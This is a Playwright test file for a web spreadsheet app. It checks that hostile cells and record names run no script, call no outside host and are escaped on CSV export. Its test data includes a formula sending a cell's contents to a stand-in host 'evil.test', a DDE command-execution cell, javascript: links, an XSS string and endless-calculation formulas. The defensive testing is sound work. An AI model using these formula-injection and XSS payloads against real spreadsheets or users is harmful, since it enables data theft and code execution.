import { readFile } from "node:fs/promises";

import type { Page } from "@playwright/test";
import { writeXlsx } from "hucre/xlsx";
import Papa from "papaparse";

import { makeRows } from "./kit/rows.ts";
import { expect, register, test } from "./kit/test.ts";

const script = `<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`;
/**
 * Cells that would send requests, run commands or never finish in other programs, and the errors that they show here.
 */
const hostileCells = [
  '=WEBSERVICE("https://evil.test/?"&A1)',
  '=IMAGE("https://evil.test/x.png")',
  '=HYPERLINK("javascript:window.hacked=1","Click")',
  "=cmd|'/c calc'!A0",
  "=A5",
  "=SUM(A:XFD)",
  '=REPT("x",1000000000)',
  `=${"(".repeat(64)}1${")".repeat(64)}`,
  script,
];

const saved = (page: Page) => page.getByRole("status").filter({ hasText: /^Saved$/ });
const grid = (page: Page) => page.locator("canvas").first();

/**
 * Records forbidden actions of a page: a request to another host, a dialog, a new window, or a script run from a cell.
 * Returns a function that lists them.
 */
async function watch(page: Page) {
  const done: string[] = [];
  const home = new URL(process.env.VANDA_URL ?? "").host;
  page.on("request", (request) => {
    const { protocol, host } = new URL(request.url());
    if (protocol.startsWith("http") && host !== home) done.push(`asked ${request.url()}`);
  });
  page.on("dialog", (dialog) => void dialog.dismiss().then(() => done.push("opened a dialog")));
  page.context().on("page", (other) => done.push(`opened ${other.url()}`));
  return async () => {
    if (await page.evaluate(() => "hacked" in window)) done.push("ran a script");
    return done;
  };
}

async function openNew(page: Page) {
  await register(page);
  await page.goto("/dashboard/vanda-sheets");
  await page.getByRole("button", { name: "New spreadsheet" }).click();
  await expect(grid(page)).toBeVisible();
  await grid(page).click({ position: { x: 80, y: 40 }, force: true });
}

/** Returns the first column of the open worksheet, as exported to CSV. */
async function downloaded(page: Page) {
  const file = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download", exact: true }).click();
  await page.getByRole("menuitem", { name: "This sheet as CSV" }).click();
  const question = page.getByRole("dialog").getByRole("button", { name: "Download" });
  await question.or(saved(page)).first().waitFor();
  if (await question.isVisible()) await question.click();
  const { data } = Papa.parse<string[]>(await readFile(await (await file).path(), "utf8"), { skipEmptyLines: true });
  return data.map(([first]) => first?.replace("\ufeff", ""));
}

test("hostile formulas and texts run no code, send no request, and are saved, opened and undone like others @deep", async ({
  page,
}) => {
  const whatItDid = await watch(page);
  await openNew(page);
  for (const cell of hostileCells) {
    await page.keyboard.type(cell);
    await page.keyboard.press("Enter");
  }
  await expect(saved(page)).toBeVisible();
  await page.reload();
  await expect(saved(page)).toBeVisible();
  const errors = ["#NAME?", "#NAME?", "#NAME?", "#NAME?", "#CIRC!", "#NAME?", "#VALUE!"];
  expect(await downloaded(page)).toEqual([...errors, "1", script]);
  await grid(page).click({ position: { x: 80, y: 40 }, force: true });
  await page.keyboard.type("gone");
  await page.keyboard.press("Enter");
  await page.keyboard.press("ControlOrMeta+z");
  await expect(saved(page)).toBeVisible();
  expect((await downloaded(page))[0]).toBe("#NAME?");
  expect(await whatItDid()).toEqual([]);
});

test("no key typed faster than the page renders is lost, and a cell counts as unsaved until it is saved @deep", async ({
  page,
}) => {
  await openNew(page);
  await page.keyboard.type("kept");
  await page.keyboard.press("Enter");
  await expect(saved(page)).toBeVisible();
  await page.keyboard.type("x");
  await expect(page.getByRole("status").filter({ hasText: "Not saved yet" })).toBeVisible();
  // Like a key held down on a slow machine: each event arrives before the work deferred by the previous one.
  await page.evaluate(async () => {
    for (let keys = 0; keys < 100; keys += 1) {
      document.activeElement?.dispatchEvent(new KeyboardEvent("keydown", { key: "x", bubbles: true }));
      document.execCommand("insertText", false, "x");
      for (let turns = 0; turns < 20; turns += 1) await Promise.resolve();
    }
  });
  await page.keyboard.press("Enter");
  await expect(saved(page)).toBeVisible();
  await page.reload();
  expect(await downloaded(page)).toEqual(["kept", "x".repeat(101)]);
});

test.describe("when the engine crashes", () => {
  test.use({ allowedConsole: /memory access out of bounds/ });

  test("an error is shown, and the last saved content is restored @deep", async ({ page }) => {
    await openNew(page);
    await page.keyboard.type("kept");
    await page.keyboard.press("Enter");
    await expect(saved(page)).toBeVisible();
    // Like infinite recursion in a formula, which makes some browsers terminate the whole page.
    await page.evaluate(() =>
      setTimeout(() => {
        throw new WebAssembly.RuntimeError("memory access out of bounds");
      }),
    );
    await page.getByRole("button", { name: "Try again" }).click();
    await expect(saved(page)).toBeVisible();
    expect(await downloaded(page)).toEqual(["kept"]);
  });
});

test("opening a file whose formulas never finish is cancelled after a minute, and the page stays responsive @deep", async ({
  page,
}) => {
  await page.clock.install();
  await register(page);
  await page.goto("/dashboard/vanda-sheets");
  const file = await writeXlsx({
    sheets: [{ name: "Costs", rows: [], cells: new Map([["0,0", { formula: "FACT(1E300)", formulaResult: 1 }]]) }],
  });
  const worker = page.waitForEvent("worker");
  await page.getByLabel("Excel or CSV file").setInputFiles({
    name: "endless.xlsx",
    mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    buffer: Buffer.from(file),
  });
  const thread = await worker;
  await expect(page.getByRole("button", { name: "New spreadsheet" })).toBeVisible();
  const ended = thread.waitForEvent("close");
  await page.clock.fastForward(60_000);
  await expect(page.getByText("The file's formulas take too long to calculate.")).toBeVisible();
  await ended;
});

test("hostile names of records and views are shown as plain text in a live list, which reads no more rows than fit @deep", async ({
  page,
}) => {
  const whatItDid = await watch(page);
  await register(page);
  const names = [script, '=HYPERLINK("javascript:window.hacked=1","x")', '=WEBSERVICE("https://evil.test")', "@SUM(1)"];
  await makeRows(
    page,
    "accounts",
    Array.from({ length: 3_000 }, (_, n) => ({ name: names[n] ?? `Oak ${String(n).padStart(4, "0")}` })),
  );
  await makeRows(
    page,
    "accounts",
    Array.from({ length: 3_000 }, (_, n) => ({ name: `Yew ${String(n).padStart(4, "0")}` })),
  );
  await makeRows(page, "saved_views", [
    { entity: "accounts", name: `"]${script}`, state: { cols: "name", sort: "name" } },
  ]);
  await page.goto("/dashboard/vanda-sheets");
  await page.getByRole("button", { name: "New spreadsheet" }).click();
  await expect(grid(page)).toBeVisible();
  await page.getByRole("button", { name: "Insert" }).click();
  await page.getByRole("menuitem", { name: "List…" }).click();
  const list = page.getByRole("dialog", { name: "Insert list" });
  await list.getByLabel("Records").selectOption("accounts");
  await list.getByLabel("View").selectOption(`"]${script}`);
  await list.getByRole("button", { name: "Insert" }).click();
  await expect(list).toBeHidden({ timeout: 60_000 });
  await expect(saved(page)).toBeVisible({ timeout: 60_000 });
  const rows = await downloaded(page);
  // Escaped as text, so that other spreadsheets do not read them as formulas either.
  expect(rows).toEqual(expect.arrayContaining([script, ...names.slice(1).map((name) => `'${name}`)]));
  expect(rows).toHaveLength(5_001);
  expect(await whatItDid()).toEqual([]);
});

/** Changes that make the engine recalculate all cells immediately, each with a formula that then never ends. */
const wholeCalculations: [name: string, formula: string, act: (page: Page) => Promise<void>][] = [
  [
    "adding a worksheet",
    "=FACT(Sheet2!A1+1E300)",
    async (page) => page.getByRole("button", { name: "Add sheet" }).click(),
  ],
  [
    "defining a name",
    "=FACT(large+1E300)",
    async (page) => {
      await page.locator(".ic-formula-bar-menu-trigger").click();
      await page.getByRole("menuitem", { name: "Manage Named Ranges" }).click();
      await page.getByRole("button", { name: "Add new" }).click();
      await page.getByRole("textbox", { name: "Range name" }).fill("large");
      await page.getByRole("button", { name: "Apply changes" }).click();
    },
  ],
];
for (const [name, formula, act] of wholeCalculations)
  test(`${name} is cancelled if a formula would then never finish, and the page stays responsive @deep`, async ({
    page,
  }) => {
    await openNew(page);
    await page.keyboard.type(formula);
    await page.keyboard.press("Enter");
    await expect(saved(page)).toBeVisible();
    await act(page);
    await expect(page.getByText("Cancelled because it takes too long to calculate.")).toBeVisible({ timeout: 30_000 });
    await grid(page).click({ position: { x: 80, y: 70 }, force: true });
    await page.keyboard.type("=1+1");
    await page.keyboard.press("Enter");
    await expect(saved(page)).toBeVisible();
    expect((await downloaded(page))[1]).toBe("2");
  });
